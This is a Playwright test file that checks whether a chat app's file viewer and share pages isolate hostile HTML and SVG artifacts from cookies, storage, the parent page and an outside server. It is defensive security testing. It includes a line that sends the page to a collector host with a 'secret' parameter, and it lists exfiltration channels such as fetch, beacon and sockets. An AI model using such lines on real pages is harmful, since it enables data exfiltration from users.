import type { ConsoleMessage, Locator, Page } from '@playwright/test';
import { type Departure, departures, hostileHtml, hostileSvg, staying } from '../fixtures/hostile-page';
import { text, toolCall } from '../fixtures/model-servers';
import { textFile } from '../fixtures/sample-files';
import { test as base, expect } from '../fixtures/test-with-collector';
import type { ChatPage } from '../pages/chat-page';
import type { FilesPage } from '../pages/files';
import { ShareDialog, SharePage } from '../pages/share-page';

/** Chromium tells in the console of each thing that it refused; what else goes wrong still fails. */
const refusals = [
  'Content Security Policy',
  'sandbox',
  'Sandbox',
  'cross-origin',
  'ERR_BLOCKED',
  'Unsafe attempt',
  'Fetch API cannot load',
];

const test = base.extend({
  expectedConsoleErrors: async ({ baseURL: _ }, use) => use([...refusals]),
});

/** The page around the artifact refused to let its frame go elsewhere. */
const isRefusedDeparture = (message: ConsoleMessage): boolean => /directive: "frame-src /.test(message.text());

/** A chat with files, and its panel open. */
async function openChat(chat: ChatPage, files: FilesPage, contents: Record<string, string>): Promise<void> {
  const sessionId = await chat.start('Hello');
  await expect(chat.copyAnswer()).toBeVisible();
  for (const [name, content] of Object.entries(contents)) {
    await files.put(sessionId, textFile(name, content, 'text/html'));
  }
  await files.openPanel();
  await files.page.reload();
}

/** To go elsewhere by the plainest way. */
const leavingTo = (origin: string): Departure => ({
  name: 'location',
  head: '',
  script: `location.href = '${origin}/location?secret'`,
});

/** Lets the scripts of the shown artifact run, waits until it was refused to leave, and tells what came of their attempts. */
async function run(page: Page, shown: Locator): Promise<Record<string, string>> {
  const told = page.waitForEvent('console', (message) => message.text().startsWith('outcomes '));
  const refused = page.waitForEvent('console', isRefusedDeparture);
  await shown.getByRole('button', { name: 'Run scripts' }).click();
  const outcomes = JSON.parse((await told).text().slice('outcomes '.length));
  await refused;
  return outcomes;
}

function expectNothing(outcomes: Record<string, string>): void {
  for (const way of ['cookie', 'localStorage', 'sessionStorage', 'indexedDB', 'parent', 'top', 'topAddress']) {
    expect(outcomes[way], way).toBe('SecurityError');
  }
  expect(outcomes.popup).toBe('null');
  expect(outcomes.referrer).toBe('');
}

test('a hostile page reaches nothing, with and without its scripts', async ({ chat, files, page, collector }) => {
  test.setTimeout(180_000);
  const popups: Page[] = [];
  const pages = Object.fromEntries(
    departures(collector.origin).map((way) => [`${way.name}.html`, hostileHtml(collector.origin, way)]),
  );
  await openChat(chat, files, pages);
  page.context().on('page', (popup) => popups.push(popup));
  const address = page.url();
  for (const name of Object.keys(pages)) {
    await files.open(name);
    const frame = files.stage.frameLocator('iframe');
    await expect(frame.getByRole('heading', { name: 'Hostile page' })).toBeVisible();
    await expect(frame.locator('#outcomes')).toBeEmpty();
    expectNothing(await run(page, files.stage));
    expect(page.url()).toBe(address);
    await page.keyboard.press('Escape');
    await expect(files.stage).toHaveCount(0);
  }
  expect(popups).toEqual([]);
  expect(collector.received).toEqual([]);
});

test('a hostile drawing is an image until its click, and reaches nothing after it', async ({
  chat,
  files,
  page,
  collector,
}) => {
  const popups: Page[] = [];
  await openChat(chat, files, { 'hostile.svg': hostileSvg(collector.origin, leavingTo(collector.origin)) });
  page.context().on('page', (popup) => popups.push(popup));
  const address = page.url();
  await files.open('hostile.svg');
  await expect(files.stage.getByRole('img', { name: 'hostile.svg' })).toBeVisible();
  await expect(files.stage.locator('iframe')).toHaveCount(0);
  expectNothing(await run(page, files.stage));
  expect(page.url()).toBe(address);
  await expect(page).not.toHaveTitle('taken');
  expect(popups).toEqual([]);
  expect(collector.received).toEqual([]);
});

test('in a share they reach nothing either, nor its token', async ({
  chat,
  files,
  model,
  page,
  browser,
  collector,
}) => {
  const away = leavingTo(collector.origin);
  const made = {
    'hostile.html': hostileHtml(collector.origin, away),
    'hostile.svg': hostileSvg(collector.origin, away),
  };
  model.setScript(({ messages, lastUserText }) => {
    if (lastUserText !== 'Publish them') return 'Hello.';
    const isPublished = messages.some(({ role }) => role === 'tool');
    if (isPublished) return [text('Here they are.')];
    return Object.keys(made).map((name) => toolCall('content_publish', { path: name }));
  });
  const sessionId = await chat.start('Hello');
  await expect(chat.copyAnswer()).toBeVisible();
  for (const [name, content] of Object.entries(made)) await files.put(sessionId, textFile(name, content));
  await chat.send('Publish them');
  await expect(chat.text('Here they are.')).toBeVisible();
  const dialog = new ShareDialog(page);
  await dialog.open();
  const url = await dialog.issue();
  const context = await browser.newContext({ locale: 'en-GB' });
  const share = await SharePage.open(context, url);
  const pages: Page[] = [];
  context.on('page', (popup) => pages.push(popup));
  for (const name of Object.keys(made)) {
    const card = share.conversation.getByRole('article', { name: `File ${name}` });
    await card.scrollIntoViewIfNeeded();
    expectNothing(await run(share.page, card));
    await card.getByRole('button', { name: 'Stop' }).click();
  }
  expect(share.page.url()).toBe(url);
  await expect(share.page).not.toHaveTitle('taken');
  expect(pages).toEqual([]);
  expect(collector.received).toEqual([]);
  await context.close();
});

test('without our policies the same page and drawing do reach a server, by each of these ways', async ({
  page,
  collector,
}) => {
  const { origin } = collector;
  const free = await page.context().newPage();
  const asked = () => collector.received.map((line) => /^\w+ \/([^ ?]*)/.exec(line)?.[1]);
  const asPage = (html: string) => `srcdoc="${html.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"`;
  const asDrawing = (svg: string) => `src="data:image/svg+xml,${encodeURIComponent(svg)}"`;
  const scripted = ['fetch', 'xhr', 'socket', 'beacon', 'image-script'];
  const ways: [frame: string, ...reached: string[]][] = [
    [asPage(hostileHtml(origin, staying)), 'stylesheet', 'image', 'iframe', 'font', ...scripted],
    [asDrawing(hostileSvg(origin, staying)), 'onload', 'svg-image', 'foreign', ...scripted],
    // By themselves, as what else is tried (going back) would end them.
    [asPage(`<script>${leavingTo(origin).script}</script>`), 'location'],
    [
      asDrawing(`<svg xmlns="http://www.w3.org/2000/svg"><script>${leavingTo(origin).script}</script></svg>`),
      'location',
    ],
  ];
  for (const [frame, ...reached] of ways) {
    collector.received.length = 0;
    await free.setContent(`<iframe sandbox="allow-scripts" ${frame}></iframe>`);
    await expect.poll(asked, { message: frame.slice(0, 30) }).toEqual(expect.arrayContaining(reached));
  }
  await free.close();
});

test('the bytes of a page cannot be opened as a page of ours', async ({ chat, files, page, collector }) => {
  await openChat(chat, files, { 'hostile.html': hostileSvg(collector.origin, staying) });
  const sessionId = page.url().replace(/^.*\/s\//, '');
  const response = await page.request.get(`/api/sessions/${sessionId}/files/hostile.html`);
  expect(response.headers()['content-security-policy']).toMatch(/^sandbox;/);
  expect(response.headers()['content-disposition']).toMatch(/^attachment/);
  expect(response.headers()['x-content-type-options']).toBe('nosniff');
});
